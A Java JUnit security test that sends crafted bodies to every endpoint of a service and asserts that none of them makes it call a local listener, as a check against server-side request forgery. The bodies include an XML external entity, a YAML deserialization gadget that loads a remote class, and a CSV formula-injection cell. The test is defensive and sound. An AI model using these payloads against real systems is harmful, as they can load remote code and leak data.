package id.jembatan.suite.attack;

import static id.jembatan.suite.attack.Attack.ENDPOINTS;
import static id.jembatan.suite.attack.Attack.SUITE;
import static id.jembatan.suite.attack.Attack.USERS;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;

/// Nobody can make a service call an address (SSRF). There is nothing that takes an address to call, such as a webhook;
/// what this test proves is that no reader of a file and no text field becomes one.
class OutboundAttackTest {

    @Test
    void no_address_in_a_text_or_a_file_is_called() throws IOException, InterruptedException {
        var calls = new AtomicInteger();
        try (var ear = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
            var listener = Thread.startVirtualThread(() -> {
                try {
                    while (true) {
                        ear.accept().close();
                        calls.incrementAndGet();
                    }
                } catch (IOException e) {
                    // closed: the test is over
                }
            });
            var address = "http://127.0.0.1:" + ear.getLocalPort() + "/zqx";

            var sent = sendEverywhere(address);

            Thread.sleep(2_000); // what happens after the answer: listeners, jobs
            assertThat(sent).as("requests that held the address").isGreaterThan(100);
            assertThat(calls).hasValue(0);
            listener.interrupt();
        }
    }

    @Test
    void no_operation_takes_an_address_to_call() {
        assertThat(ENDPOINTS).noneMatch(endpoint -> endpoint.path().matches(".*(webhook|callback|subscription).*"));
    }

    private static int sendEverywhere(String address) {
        var bodies = Map.of(
                "json", """
                        {"name": "%1$s", "title": "%1$s", "source": "%1$s", "website": "%1$s", "url": "%1$s",
                         "note": "%1$s", "callback": "%1$s", "href": "%1$s", "file": {"payload": "%1$s"}}""",
                "xml", """
                        <?xml version="1.0"?><!DOCTYPE a [<!ENTITY %% b SYSTEM "%1$s"> %%b;]>
                        <iati-activities version="2.03" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
                        xsi:noNamespaceSchemaLocation="%1$s">&c;</iati-activities>""",
                "yaml", """
                        code: "%1$s"
                        a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["%1$s"]]]]
                        """,
                "csv", "name,country,website,source\n=IMPORTXML(\"%1$s\"),TR,%1$s,%1$s\n",
                "vcard", "BEGIN:VCARD\r\nVERSION:4.0\r\nFN:made up\r\nPHOTO:%1$s\r\nURL:%1$s\r\nEND:VCARD\r\n",
                "calendar", "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nTZURL:%1$s\r\nATTACH:%1$s\r\nEND:VCALENDAR\r\n");
        var sent = 0;
        for (var endpoint : ENDPOINTS) {
            for (var type : endpoint.mediaTypes()) {
                var kind = bodies.keySet().stream().filter(type::contains).findFirst();
                if (kind.isEmpty() || !mayAnybody(endpoint)) {
                    continue;
                }
                var answer = Attack.send(
                        SUITE.as(user(endpoint))
                                .header("Content-Type", type)
                                .header("If-Match", "\"0\"")
                                .body(bodies.get(kind.get()).formatted(address).getBytes(StandardCharsets.UTF_8)),
                        endpoint,
                        endpoint.guessed());
                assertThat(answer.statusCode()).as(endpoint.toString()).isLessThan(500);
                sent++;
            }
        }
        return sent;
    }

    private static boolean mayAnybody(Endpoint endpoint) {
        return USERS.keySet().stream().anyMatch(role -> RoleAttackTest.mayDo(role, endpoint));
    }

    private static String user(Endpoint endpoint) {
        return USERS.entrySet().stream()
                .filter(each -> RoleAttackTest.mayDo(each.getKey(), endpoint))
                .map(Map.Entry::getValue)
                .findFirst()
                .orElseThrow();
    }
}
